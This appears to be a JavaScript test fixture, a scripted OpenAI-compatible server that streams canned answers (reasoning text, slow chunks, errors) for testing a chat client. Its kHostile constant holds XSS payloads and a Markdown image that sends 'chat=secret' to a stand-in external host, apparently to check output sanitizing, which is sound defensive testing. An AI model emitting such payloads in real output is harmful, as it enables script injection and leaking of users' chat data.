// An OpenAI-compatible server whose answers the test writes: the second tier of the server under test. It says what a
// real model can't be made to say on demand: thinking, hostile Markdown, a slow answer, a failure.
import { createServer } from "node:http";

const kThinking = "First weigh the one side. Then the other. ";
export const kHostile = [
  "<img src=x onerror=\"window.__xss=1\">",
  "<script>window.__xss=1</script>",
  "[press](javascript:window.__xss=1)",
  "![pixel](http://elsewhere.example/pixel.png?chat=secret)",
  "```html\n<svg onload=\"window.__xss=1\"></svg>\n```",
].join("\n\n");

// Parts of an answer to a question: [field, text, wait in ms before it].
function script(question) {
  if (question.includes("hostile")) return [["content", kHostile, 0]];
  if (question.includes("slow")) return Array.from({ length: 400 }, (_, i) => ["content", `part${i} `, 25]);
  if (question.includes("think")) {
    const thought = kThinking.match(/\S+\s/g).map((word) => ["reasoning_content", word, 60]);
    return [...thought, ...["The ", "answer ", "is **42**."].map((word) => ["content", word, 60])];
  }
  return [["content", `Heard: ${question}`, 0]];
}

const chunk = (delta, finish = null) =>
  `data: ${JSON.stringify({ id: "u", object: "chat.completion.chunk", created: 1, model: "scripted", choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;

async function answer(request, response) {
  let body = "";
  for await (const part of request) body += part;
  const { messages, stream } = JSON.parse(body);
  const question = messages.at(-1).content;
  if (question.includes("fail")) {
    response.writeHead(500, { "content-type": "application/json" });
    response.end('{"error":{"message":"out of order","type":"server_error","code":"internal_error"}}');
    return;
  }
  const parts = script(question);
  if (!stream) {
    const content = parts.filter(([field]) => field === "content").map(([, text]) => text).join("");
    response.writeHead(200, { "content-type": "application/json" });
    response.end(JSON.stringify({ id: "u", choices: [{ index: 0, message: { role: "assistant", content }, finish_reason: "stop" }] }));
    return;
  }
  response.writeHead(200, { "content-type": "text/event-stream" });
  response.write(chunk({ role: "assistant", content: "" }));
  for (const [field, text, wait] of parts) {
    if (wait) await new Promise((done) => setTimeout(done, wait));
    if (response.destroyed) return;
    response.write(chunk({ [field]: text }));
  }
  response.end(`${chunk({}, "stop")}data: [DONE]\n\n`);
}

// {baseUrl, openStreams(), close()}
export async function startUpstream() {
  let open = 0;
  const server = createServer((request, response) => {
    if (request.method !== "POST") {
      response.writeHead(200, { "content-type": "application/json" });
      response.end('{"object":"list","data":[{"id":"scripted","object":"model"}]}');
      return;
    }
    ++open;
    response.on("close", () => --open);
    answer(request, response).catch(() => response.destroy());
  });
  await new Promise((done) => server.listen(0, "127.0.0.1", done));
  return {
    baseUrl: `http://127.0.0.1:${server.address().port}/v1`,
    openStreams: () => open,
    close: () => {
      server.closeAllConnections();
      server.close();
    },
  };
}
